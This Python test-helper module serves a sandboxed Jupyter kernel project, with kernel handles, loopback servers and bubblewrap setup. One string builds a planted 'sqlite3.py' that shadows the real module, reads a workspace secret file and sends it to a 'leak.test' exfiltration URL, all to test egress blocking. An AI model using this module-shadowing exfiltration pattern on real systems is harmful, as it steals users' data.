"""Helpers shared by the tests: real sandbox kernels driven through
jupyter_client, free loopback ports, waiting for a server process to listen,
a loopback listener that counts who connected."""

from __future__ import annotations

import os
import queue
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import IO, Any

import psutil
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.manager import KernelManager

KERNEL_NAME = "sandbox-python"
IN_CI = os.environ.get("CI", "").lower() == "true"


def free_port() -> int:
    """A TCP port free on 127.0.0.1 (the tests never listen anywhere else)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def tcp_ready(port: int) -> bool:
    """Something accepts connections on 127.0.0.1:``port``."""
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
        return True
    except OSError:
        return False


class LoopbackHTTPServer:
    """An HTTP server on 127.0.0.1 (a free port) answering with ``handler`` in
    threads of its own, until :meth:`close`."""

    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.httpd.daemon_threads = True
        self.port: int = self.httpd.server_address[1]
        self.base = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


#: a module planted in a workspace as ``sqlite3.py``, which the worker imports
#: as it starts (so it holds the start open): see :func:`leaking_module`
_LEAKING_MODULE = r"""
import os, sys, time, socket, importlib
# the proxy's socket and the token it asks for first (without it, it refuses
# whether cut or not: an attack review found a test that could not fail so)
_sock = os.environ.get("SANDBOX_KERNEL_EGRESS_SOCKET"); _token = os.environ.get("SANDBOX_KERNEL_EGRESS_TOKEN")
if _sock and _token and (not ARMED or os.path.exists(ARMED)):
    for _ in range(4000):
        if os.path.exists("/workspace/secret.txt"):
            break
        time.sleep(0.005)
    if os.path.exists("/workspace/secret.txt"):
        data = open("/workspace/secret.txt").read().strip().replace(" ", "_")
        try:
            s = socket.socket(socket.AF_UNIX); s.connect(_sock)
            s.sendall(b"SK-EGRESS " + _token.encode() + b"\r\n")
            s.sendall(("GET http://leak.test:PORT/exfil/" + data + " HTTP/1.1\r\nHost: leak.test\r\n\r\n").encode())
            answer = s.recv(200).decode(errors="replace")
        except OSError as exc:
            answer = "refused: %r" % exc
        open("/workspace/leak.txt", "w").write(answer)
del sys.modules[__name__]
_saved = list(sys.path); sys.path[:] = [p for p in sys.path if p not in ("", "/workspace")]
try:
    sys.modules[__name__] = importlib.import_module(__name__)
finally:
    sys.path[:] = _saved
"""


def leaking_module(port: int, armed: str = "") -> str:
    """The source of a module to plant as ``/workspace/sqlite3.py``: when a
    sandbox starts (once the file ``armed`` exists, if one is named), it
    waits up to 20 s for ``/workspace/secret.txt`` (the data a connector
    hands over), sends it through the session's egress proxy to
    ``http://leak.test:<port>/exfil/<data>`` (a test name the proxy maps to
    127.0.0.1), writes the proxy's answer to ``/workspace/leak.txt``, then
    imports the real module."""
    return _LEAKING_MODULE.replace("PORT", str(port)).replace("ARMED", repr(armed))


class RecordingHTTPServer(LoopbackHTTPServer):
    """An HTTP server on 127.0.0.1 (another origin than a Lab's) that keeps the
    path of every request in ``heard`` and answers each with a 1-pixel GIF, so
    an image a page loads from it is a real image."""

    def __init__(self) -> None:
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: object) -> None:
                pass

        self.heard = heard
        super().__init__(Handler)


class LoopbackListener:
    """A TCP service on 127.0.0.1 that counts the connections it accepts and
    sends ``banner`` on each (a preconnect opens a connection and sends
    nothing, so an HTTP server would hear nothing)."""

    def __init__(self, banner: bytes = b"") -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.sock.getsockname()[1]
        self.accepted = 0
        self._banner = banner
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            if self._banner:
                conn.sendall(self._banner)
            conn.close()

    def close(self) -> None:
        self.sock.close()


def wait_until(check: Callable[[], bool], what: str, proc: subprocess.Popen, timeout: float = 30) -> None:
    """Poll ``check`` until it holds; fail with ``proc``'s stderr if it exits first."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            err = proc.stderr.read() if proc.stderr else ""
            if isinstance(err, bytes):
                err = err.decode(errors="replace")
            raise AssertionError(f"{what} exited with {proc.returncode}: {err[-2000:]}")
        if check():
            return
        time.sleep(0.1)
    raise AssertionError(f"{what} did not start in {timeout}s")


def bwrap_kernel(root: Path, *args: str) -> SandboxKernelHandle:
    """A kernel on bubblewrap, its workspace and TMPDIR made under ``root``
    (``ws``, ``tmp``), with ``args`` as further options."""
    require_bwrap()
    (root / "ws").mkdir()
    (root / "tmp").mkdir()
    return SandboxKernelHandle(root / "ws", root / "tmp", extra_args=["--SandboxKernel.backend=bwrap", *args])


def shared_data_kernel(workspace: Path, tmp: Path, data_dir: Path, *args: str) -> SandboxKernelHandle:
    """A bwrap kernel with full network while public whose default data dir is
    ``data_dir``: kernels of one user's host share it (the ratchet's default
    store and the registry of the others live there)."""
    require_bwrap()
    workspace.mkdir(parents=True, exist_ok=True)
    tmp.mkdir(parents=True, exist_ok=True)
    return SandboxKernelHandle(
        workspace,
        tmp,
        extra_args=["--SandboxKernel.backend=bwrap", "--SandboxKernel.network=full", *args],
        env={"SANDBOX_KERNEL_DATA_DIR": str(data_dir)},
    )


def peak_mib(pid: int) -> int:
    """A process's peak resident memory so far (VmHWM), in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) // 1024
    raise AssertionError("no VmHWM")


def ok(kernel: SandboxKernelHandle, code: str, timeout: float = 30) -> str:
    """The stdout of ``code``, which must succeed within ``timeout`` s."""
    return kernel.stdout_of(code, timeout=timeout)


def iopub_until(
    kc: BlockingKernelClient, until: Callable[[list[dict[str, Any]]], bool], timeout: float = 30
) -> list[dict[str, Any]]:
    """Every iopub message, whatever its parent (each with the time it
    ``arrived``), until ``until`` holds for those so far: for what arrives
    outside a cell's own run, which ``SandboxKernelHandle.run`` skips."""
    got: list[dict[str, Any]] = []
    deadline = time.monotonic() + timeout
    while not until(got):
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out; got {[(m['msg_type'], m['content']) for m in got][-20:]}")
        try:
            msg = kc.get_iopub_msg(timeout=0.2)
        except queue.Empty:
            continue
        msg["arrived"] = time.monotonic()
        got.append(msg)
    return got


def is_idle(msg: dict[str, Any], msg_id: str) -> bool:
    """``msg`` is the idle status that ends request ``msg_id``."""
    return (
        msg["msg_type"] == "status"
        and msg["content"]["execution_state"] == "idle"
        and msg["parent_header"].get("msg_id") == msg_id
    )


def iopub_until_idle(kc: BlockingKernelClient, msg_id: str, timeout: float = 30) -> list[dict[str, Any]]:
    """Every iopub message until request ``msg_id``'s idle status."""
    return iopub_until(kc, lambda got: any(is_idle(m, msg_id) for m in got), timeout)


@contextmanager
def stock_kernel(cwd: Path) -> Iterator[BlockingKernelClient]:
    """A client of stock ipykernel (``python3``) started in ``cwd``, for the
    side-by-side tests: what a cell gives there is what it must give here.

    It is asked to shut down, not killed: IPython's exit hook removes what
    ``%edit`` made, and each killed kernel left an ``ipython_edit_*`` folder
    in the host's /tmp. (Its temporary folder stays /tmp: tracebacks show
    the paths of both kernels' cells alike.)"""
    manager = KernelManager(kernel_name="python3")
    manager.start_kernel(cwd=str(cwd))
    client = manager.client()
    client.start_channels()
    try:
        client.wait_for_ready(timeout=60)
        yield client
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=False)


@contextmanager
def side_by_side(root: Path) -> Iterator[tuple[BlockingKernelClient, BlockingKernelClient]]:
    """A bwrap kernel (workspace ``root/ws``) and stock ipykernel started in
    that same folder: clients of both, sandboxed first."""
    sandboxed = bwrap_kernel(root)
    try:
        with stock_kernel(root / "ws") as stock:
            yield sandboxed.kc, stock
    finally:
        sandboxed.shutdown()


def require_bwrap() -> None:
    """Skip without bubblewrap, except under CI=true where that is a failure."""
    import pytest

    if shutil.which("bwrap") is None:
        if IN_CI:
            pytest.fail("bubblewrap (bwrap) is required under CI=true")
        pytest.skip("bubblewrap (bwrap) is not installed")


def _unreaped(proc: psutil.Process, kernel_pid: int) -> bool:
    """Still there: a zombie counts only while the kernel is the one to reap it."""
    try:
        return proc.is_running() and (proc.status() != psutil.STATUS_ZOMBIE or proc.ppid() == kernel_pid)
    except psutil.NoSuchProcess:
        return False


@dataclass
class Run:
    reply: dict[str, Any]
    messages: list[dict[str, Any]] = field(default_factory=list)

    @property
    def status(self) -> str:
        return self.reply["status"]

    def of(self, msg_type: str) -> list[dict[str, Any]]:
        return [m["content"] for m in self.messages if m["msg_type"] == msg_type]

    @property
    def stdout(self) -> str:
        return "".join(c["text"] for c in self.of("stream") if c["name"] == "stdout")

    @property
    def stderr(self) -> str:
        return "".join(c["text"] for c in self.of("stream") if c["name"] == "stderr")

    @property
    def result(self) -> dict[str, Any] | None:
        results = self.of("execute_result")
        return results[-1]["data"] if results else None

    @property
    def errors(self) -> list[dict[str, Any]]:
        return self.of("error")


def configured_kernel(tmp_path: Path, config: str, *args: str) -> SandboxKernelHandle:
    """A bwrap kernel in ``tmp_path/ws`` whose Jupyter config folder holds
    ``config`` as its ``sandbox_kernel_config.py`` (what a user's file sets)."""
    require_bwrap()
    for name in ("ws", "tmp", "config"):
        (tmp_path / name).mkdir(exist_ok=True)
    (tmp_path / "config" / "sandbox_kernel_config.py").write_text(config)
    return SandboxKernelHandle(
        tmp_path / "ws",
        tmp_path / "tmp",
        extra_args=["--SandboxKernel.backend=bwrap", *args],
        env={"JUPYTER_CONFIG_DIR": str(tmp_path / "config")},
    )


class SandboxKernelHandle:
    def __init__(
        self,
        workspace: Path,
        tmpdir: Path,
        extra_args: list[str] | None = None,
        env: dict[str, str] | None = None,
        stderr: IO[bytes] | None = None,
    ) -> None:
        """``stderr``: where the kernel process's own stderr (its log) goes;
        the test's stderr when None."""
        self.workspace = workspace
        self.tmpdir = tmpdir
        self.km = KernelManager(kernel_name=KERNEL_NAME)
        data_dir = tmpdir.parent / f"{tmpdir.name}-data"
        data_dir.mkdir(exist_ok=True)
        self.data_dir = data_dir
        kernel_env = {**os.environ, "TMPDIR": str(tmpdir), "SANDBOX_KERNEL_DATA_DIR": str(data_dir), **(env or {})}
        self.km.extra_env = {}
        self.km.start_kernel(
            cwd=str(workspace),
            env=kernel_env,
            extra_arguments=extra_args or [],
            **({"stderr": stderr} if stderr is not None else {}),
        )
        self.kc: BlockingKernelClient = self.km.client()
        self.kc.start_channels()
        self.kc.wait_for_ready(timeout=60)

    @property
    def pid(self) -> int:
        return self.km.provisioner.process.pid  # type: ignore[union-attr]

    def descendants(self) -> list[psutil.Process]:
        try:
            return psutil.Process(self.pid).children(recursive=True)
        except psutil.NoSuchProcess:
            return []

    def sandboxes(self) -> list[psutil.Process]:
        """The bwrap processes this kernel started (processes may vanish meanwhile)."""
        found = []
        for proc in self.descendants():
            try:
                if proc.name() == "bwrap":
                    found.append(proc)
            except psutil.NoSuchProcess:
                continue
        return found

    def kill_sandboxes(self) -> int:
        """Kill the sandbox from outside, as the OOM killer or an admin would.

        Returns once the kernel has reaped them: a cell sent before that may
        still reach the dying sandbox and die with it (a loss the kernel reports
        as CellDied, rightly), which is not what callers mean to test."""
        victims = self.sandboxes()
        for proc in victims:
            try:
                proc.kill()
            except psutil.NoSuchProcess:
                pass
        deadline = time.monotonic() + 30
        while any(_unreaped(p, self.pid) for p in victims):
            if time.monotonic() > deadline:
                raise AssertionError(f"the kernel did not reap its killed sandboxes within 30 s: {victims}")
            time.sleep(0.05)
        time.sleep(0.2)  # the reaping reaches the kernel's loop as a callback: let it run
        return len(victims)

    def run(
        self,
        code: str,
        timeout: float = 60,
        allow_stdin: bool = False,
        stdin_answers: list[str] | None = None,
        **kwargs: Any,
    ) -> Run:
        msg_id = self.kc.execute(code, allow_stdin=allow_stdin, **kwargs)
        messages = []
        deadline = time.monotonic() + timeout
        answers = list(stdin_answers or [])
        while True:
            if allow_stdin and answers:
                try:
                    req = self.kc.get_stdin_msg(timeout=0.05)
                    if req["msg_type"] == "input_request":
                        messages.append(req)
                        self.kc.input(answers.pop(0))
                except Exception:
                    pass
            try:
                msg = self.kc.get_iopub_msg(timeout=0.1)
            except Exception:
                if time.monotonic() > deadline:
                    raise TimeoutError(f"no idle status within {timeout} s for {code!r}") from None
                continue
            if msg["parent_header"].get("msg_id") != msg_id:
                continue
            if msg["msg_type"] == "status" and msg["content"]["execution_state"] == "idle":
                break
            messages.append(msg)
        while True:
            reply = self.kc.get_shell_msg(timeout=timeout)
            if reply["parent_header"].get("msg_id") == msg_id:
                break
        return Run(reply["content"], messages)

    def stdout_of(self, code: str, after_idle: float = 0.0, timeout: float = 60) -> str:
        """Run ``code``, which must succeed within ``timeout`` s, and return its
        stdout; first leave the kernel ``after_idle`` seconds without a request
        (time for the sandbox's standby to warm up and copy pages in)."""
        time.sleep(after_idle)
        run = self.run(code, timeout=timeout)
        assert run.status == "ok", (code, run.stderr, run.errors)
        return run.stdout

    def stream_arrivals(self, code: str, timeout: float = 30) -> tuple[list[tuple[float, str]], float]:
        """Run ``code`` and return each stream text with the time it arrived,
        and the time of the idle status: for tests of output that must stream
        while the cell runs."""
        msg_id = self.kc.execute(code)
        arrivals = []
        while True:
            msg = self.kc.get_iopub_msg(timeout=timeout)
            if msg["parent_header"].get("msg_id") != msg_id:
                continue
            if msg["msg_type"] == "stream":
                arrivals.append((time.monotonic(), msg["content"]["text"]))
            if msg["msg_type"] == "status" and msg["content"]["execution_state"] == "idle":
                idle_at = time.monotonic()
                break
        self.kc.get_shell_msg(timeout=10)
        return arrivals, idle_at

    def shutdown(self) -> None:
        try:
            self.kc.stop_channels()
        finally:
            self.km.shutdown_kernel(now=False)


def status_of(handle: SandboxKernelHandle) -> dict[str, Any]:
    """The session's state as the kernel's status comm reports it to the widget
    (``sandbox_kernel.status`` v1, see docs/comm.md)."""
    comm_id = f"status-{time.monotonic_ns()}"
    content = {"comm_id": comm_id, "target_name": "sandbox_kernel.status", "data": {"version": 1, "type": "hello"}}
    handle.kc.shell_channel.send(handle.kc.session.msg("comm_open", content))
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            msg = handle.kc.get_iopub_msg(timeout=0.5)
        except Exception:
            continue
        if msg["msg_type"] == "comm_msg" and msg["content"].get("comm_id") == comm_id:
            data = msg["content"]["data"]
            if data.get("type") == "state":
                return data["state"]
    raise AssertionError("no state from the kernel's status comm")


def reply_to(handle: SandboxKernelHandle, msg_id: str, timeout: float = 180) -> dict[str, Any]:
    """The shell reply to the request ``msg_id`` (other replies are skipped)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        reply = handle.kc.get_shell_msg(timeout=timeout)
        if reply["parent_header"].get("msg_id") == msg_id:
            return reply["content"]
    raise AssertionError(f"no reply to {msg_id} within {timeout} s")


def shell_output(text: str) -> str:
    """The output in a shell tool's result (after its ``Exit code: N`` line),
    without the code fence a private session's output comes in
    (``tools/render.inert``)."""
    body = text.split("\n", 1)[1] if "\n" in text else ""
    lines = body.split("\n")
    if len(lines) >= 2 and lines[0].startswith("```") and lines[-1] == lines[0]:
        lines = lines[1:-1]
    return "\n".join(lines)
